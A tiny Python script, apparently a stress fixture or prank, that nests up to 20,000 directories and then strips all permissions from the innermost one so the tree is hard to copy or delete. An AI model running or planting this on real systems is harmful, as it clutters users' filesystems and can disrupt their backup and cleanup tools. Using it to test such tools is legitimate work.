"""Leaves folders in folders in folders behind, which are hard to copy and to remove."""

import os

try:
    for _ in range(20_000):
        os.mkdir("d")
        os.chdir("d")
except OSError:
    pass
os.chmod(".", 0)
